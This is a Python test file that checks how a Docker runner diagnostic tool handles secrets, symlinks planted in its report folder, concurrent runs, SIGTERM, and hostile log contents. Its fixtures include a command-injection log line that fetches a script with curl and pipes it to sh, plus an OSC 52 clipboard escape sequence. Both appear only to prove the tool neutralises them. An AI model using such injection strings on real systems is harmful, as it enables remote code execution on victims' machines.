"""Never leak, never destroy, never hang: secrets and the report folder on the real Docker engine.

Every test runs `pytest checks/` as a user does, against lab containers that misbehave the way real
runners do (a key in their command line, labels and logs; escape sequences in their logs; crafted
upgrade lines), and searches every byte the run wrote, the packet's members and the terminal.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time

import pytest

from blinkcheck.bundle import archive_members
from lab.docker import scenarios as lab
from tests.harness import ROOT, CheckRun, every_byte, probe_processes, run_checks

pytestmark = pytest.mark.docker_lab

BASE = ["--target", "docker", "--blink-url", lab.BLINK_URL, "--probe-timeout", "4"]
ARG_SECRET = "Ar9Tq2VxL7mZ4pKd8WnB3cYh"  # a key given on the command line (`--token`) and in a label


@pytest.fixture(scope="module", autouse=True)
def lab_down_after():
    lab.up("healthy")
    yield
    lab.down()


def assert_nowhere(secret: str, run: CheckRun, forms: tuple[str, ...] = ()) -> None:
    for form in (secret, *forms):
        for name, data in every_byte(run.report_dir).items():
            assert form.encode() not in data, f"{form[:6]}… leaked into {name}"
        assert form not in run.stdout + run.stderr, f"{form[:6]}… reached the terminal"


def leaky_runner(name: str, script: str, **env: str) -> None:
    """A runner-like container (the runner image's shell) that prints what `script` prints, then waits."""
    dc = lab.client()
    dc.containers.run(lab.RUNNER_IMAGE, ["sh", "-c", script + "; sleep 3600"], name=name, detach=True,
                      labels=lab.LABEL, network=lab.NETWORK, environment=env)  # fmt: skip
    lab.wait_until(f"{name} logging", lambda: bool(dc.containers.get(name).logs()), deadline_s=30)


@pytest.mark.reliability(
    fault="`--report-dir` pointed at a runner's install folder holding its `.env` (with the API key) and notes",
    sees="the user's files are untouched (the leak gate judges only files this run wrote); the report is written; exit 0",
)
def test_leak_gate_never_touches_a_users_own_files(tmp_path):
    lab.up("healthy")
    install = tmp_path / "blink-runner"
    install.mkdir()
    env_file = install / ".env"
    env_file.write_text(f"BLINK_RUNNER_GROUP_API_KEY={lab.LAB_API_KEY}\n")
    notes = install / "notes.txt"
    notes.write_text(f"key for the runner group: {lab.LAB_API_KEY}\n")
    run = run_checks(*BASE, "--probe", "off", "--bundle", "on", report_dir=install)
    assert run.exit_code == 0, run.stdout[-3000:] + run.stderr[-2000:]
    assert env_file.read_text() == f"BLINK_RUNNER_GROUP_API_KEY={lab.LAB_API_KEY}\n"
    assert notes.read_text() == f"key for the runner group: {lab.LAB_API_KEY}\n"
    assert "LEAK GATE" not in run.stdout + run.stderr
    for name in ("results.json", "report.html", "junit.xml"):
        data = (install / name).read_bytes()
        assert lab.LAB_API_KEY.encode() not in data, name
    [packet] = install.glob("escalation-*.tar.gz")
    assert all(lab.LAB_API_KEY.encode() not in v for v in archive_members(packet).values())


@pytest.mark.reliability(
    fault="links planted in a shared report folder (`results.json`, `report.html`, `junit.xml`, `.write-test` pointing at other files)",
    sees="the reports replace the links; the files they pointed at are untouched; the run is complete",
)
def test_planted_links_in_the_report_folder_are_never_followed(tmp_path):
    lab.up("healthy")
    report_dir = tmp_path / "shared"
    report_dir.mkdir()
    victims = {}
    for name in ("results.json", "report.html", "junit.xml", ".write-test"):
        victim = tmp_path / f"victim-{name.strip('.')}"
        victim.write_text(f"someone else's {name}\n")
        victims[name] = victim
        os.symlink(victim, report_dir / name)
    run = run_checks(*BASE, "--probe", "off", report_dir=report_dir)
    assert run.exit_code == 0, run.stdout[-3000:] + run.stderr[-2000:]
    for name, victim in victims.items():
        assert victim.read_text() == f"someone else's {name}\n", f"{name}: the link was followed"
    for name in ("results.json", "report.html", "junit.xml"):
        assert not (report_dir / name).is_symlink() and (report_dir / name).stat().st_size > 100, name
    assert run.results["exit_code"] == 0 and run.entries("docker.disconnected.container-running")


@pytest.mark.reliability(
    fault="two runs write their escalation packet in the same second (an earlier run's `escalation-<time>.tar.gz` already there)",
    sees="each run gets its own packet (`escalation-<time>-2.tar.gz`, …) and manifest; the other run's files are untouched; the printed list describes this run's packet",
)
def test_two_runs_in_the_same_second_get_their_own_packets(tmp_path):
    lab.up("healthy")
    report_dir = tmp_path / "r"
    report_dir.mkdir()
    now = time.time()
    others = {}
    for s in range(0, 90):  # an earlier run's packet under every name this run could choose
        stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(now + s))
        path = report_dir / f"escalation-{stamp}.tar.gz"
        path.write_bytes(b"another run's packet")
        others[path] = path.read_bytes()
    run = run_checks(*BASE, "--probe", "off", "--bundle", "on", report_dir=report_dir)
    assert run.exit_code == 0, run.stdout[-3000:]
    assert all(p.read_bytes() == data for p, data in others.items()), "another run's packet was overwritten"
    [mine] = [p for p in report_dir.glob("escalation-*.tar.gz") if p not in others]
    assert mine.name.endswith("-2.tar.gz"), mine.name
    base = mine.name.removesuffix(".tar.gz")
    members = archive_members(mine)
    assert all(name.startswith(base + "/") for name in members)
    manifest = (report_dir / f"{base}.manifest.txt").read_text()
    assert manifest == members[f"{base}/MANIFEST.txt"].decode()
    assert manifest.splitlines()[1] in run.stdout and str(mine) in run.stdout


@pytest.mark.reliability(
    fault="two SIGTERMs, as `timeout` sends them (to the process, then to its group), mid-run",
    sees="handled once: exit 2, no traceback; results.json says 2; every report written",
)
def test_two_sigterms_as_timeout_sends_them_end_cleanly(tmp_path):
    """`timeout` signals the process and then its group; the second one lands while the first is being
    handled (0.05-0.3 s later it always did: a traceback, exit by SIGINT, results.json saying 1)."""
    lab.up("egress-blocked")
    try:
        for gap in (0.0, 0.1, 0.2):
            report_dir = tmp_path / f"gap-{gap}"
            cmd = [sys.executable, "-m", "pytest", "checks/", "-q", "-p", "no:randomly", "--report-dir", str(report_dir),
                   *BASE, "--probe-timeout", "8"]  # fmt: skip
            proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                    start_new_session=True)  # its own process group, as under `timeout`
            # the namespace probe's child runs: the run is inside its slowest check
            pid = proc.pid
            lab.wait_until("the probe running", lambda: bool(probe_processes(pid)), deadline_s=30, every_s=0.05)  # noqa: B023
            os.kill(proc.pid, signal.SIGTERM)
            time.sleep(gap)
            try:
                os.killpg(proc.pid, signal.SIGTERM)
            except ProcessLookupError:
                pass  # already ended
            out, err = proc.communicate(timeout=60)
            run = CheckRun(proc.returncode, out, err, report_dir, 0.0)
            assert "Traceback" not in out + err, (gap, err[-3000:])
            assert run.exit_code == 2, (gap, run.exit_code, out[-2000:], err[-2000:])
            assert run.results["exit_code"] == 2, gap
            assert (report_dir / "report.html").exists() and (report_dir / "junit.xml").exists()
            assert any("terminated" in c["summary"] for c in run.results["checks"])
    finally:
        lab.up("healthy")


@pytest.mark.reliability(
    fault="a crafted upgrade line in a runner's log (`Creating new container with name: blink-runner-1.0;curl${IFS}… and configuration …`)",
    sees="no remedy holds it: versions are captured only in a version's shape, and every filled value must fit its object's shape or is shown apart",
)
def test_crafted_log_line_cannot_put_shell_into_a_remedy(tmp_path):
    lab.up("healthy")
    crafted = "blink-runner-1.0;curl${IFS}http://172.30.251.1:9/x|sh"
    line = f"Creating new container with name: {crafted} and configuration from container with id: 0123456789ab"
    leaky_runner("blink-runner-crafted", f"echo '{line}'; echo 'exit 1'; exit 1")
    run = run_checks(*BASE, "--probe", "off", report_dir=tmp_path)
    remedies = "\n".join(c["remediation"] for c in run.results["checks"])
    assert "curl${IFS}" not in remedies and "|sh" not in remedies
    entry = next(c for c in run.entries("docker.disconnected.container-running") if "crafted" in c["object"])
    assert entry["outcome"] in ("failed", "warning") and "`docker logs " in entry["remediation"]


@pytest.mark.reliability(
    fault="ANSI/OSC escape sequences (OSC 52 sets the clipboard), NUL and CR bytes in a runner's log lines",
    sees="shown escaped (`\\x1b]52;…`) in the terminal, results.json, report.html and junit.xml; never sent raw",
)
def test_escape_sequences_from_logs_are_shown_escaped(tmp_path):
    lab.up("healthy")
    script = (r"printf 'level=error msg=\"dial tcp 172.30.251.1:18080: i/o timeout \033]52;c;ZWNobyBwd25lZA==\007"
              r" \033[2J\033[31mred\033[0m nul\000 cr\rhidden\"\n'")  # fmt: skip
    leaky_runner("blink-runner-ansi", script)
    run = run_checks(*BASE, "--probe", "off", report_dir=tmp_path)
    assert run.exit_code == 1
    terminal = run.stdout + run.stderr
    for raw in ("\x1b", "\x07", "\x00", "\r"):
        assert raw not in terminal, f"{raw!r} reached the terminal"
    assert "\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in terminal  # the failing check's text, escaped
    for name in ("results.json", "report.html", "junit.xml"):
        text = (tmp_path / name).read_text()
        for raw in ("\x1b", "\x07", "\x00"):
            assert raw not in text, (name, raw)
    evidence = "\n".join(e["text"] for c in run.entries("docker.disconnected.no-network-errors") for e in c["evidence"])
    assert "\\x1b[31mred\\x1b[0m" in evidence and "\\x00" in evidence


@pytest.mark.reliability(
    fault="the runner's key changed by an encoder in its logs (JSON `\\uXXXX` of non-ASCII, `\\n`), a key on its command line (`--token`) and in a label",
    sees="the key in none of the report files, packet members or the terminal (known in every encoding; packet inspect output by allow-list: Args, Cmd, Labels, Env values withheld)",
)
def test_encoded_key_and_command_line_key_leak_nowhere(tmp_path):
    lab.up("healthy")
    key = "Schlüssel-Q7rT2vX9pL4m"
    escaped = "Schl\\u00fcssel-Q7rT2vX9pL4m"
    # printf '%s': the JSON line exactly as a JSON logger writes it (\u00fc, \n), no shell escapes applied.
    line = '{"level":"error","msg":"registration refused for ' + escaped + '\\n: dial tcp 172.30.251.1:18080: i/o timeout"}'
    script = f"printf '%s\\n' '{line}'; echo \"starting with $0 $*\""
    dc = lab.client()
    dc.containers.run(lab.RUNNER_IMAGE, ["sh", "-c", script + "; sleep 3600", "runner", "--token", ARG_SECRET],
                      name="blink-runner-encoded", detach=True, network=lab.NETWORK,
                      labels={**lab.LABEL, "com.example.deploy": ARG_SECRET},
                      environment={"BLINK_RUNNER_GROUP_API_KEY": key + "\n"})  # fmt: skip
    lab.wait_until("the runner logging", lambda: b"starting" in dc.containers.get("blink-runner-encoded").logs())
    run = run_checks(*BASE, "--probe", "off", "--bundle", "on", report_dir=tmp_path)
    assert run.exit_code == 1 and "LEAK GATE" not in run.stdout + run.stderr, run.stdout[-3000:]
    assert_nowhere(key, run, (escaped, ARG_SECRET, "Q7rT2vX9pL4m"))
    assert "registration refused for [REDACTED]" in json.dumps(run.results)
    [packet] = tmp_path.glob("escalation-*.tar.gz")
    inspect = next(v for k, v in archive_members(packet).items() if k.endswith("blink-runner-encoded.inspect.json"))
    out = json.loads(inspect)
    assert out["Args"].startswith("[withheld]") and out["Config"]["Cmd"].startswith("[withheld]")
    assert out["Config"]["Labels"]["com.example.deploy"] == "[withheld]"
    assert out["State"]["Running"] and out["HostConfig"]["NetworkMode"] == lab.NETWORK
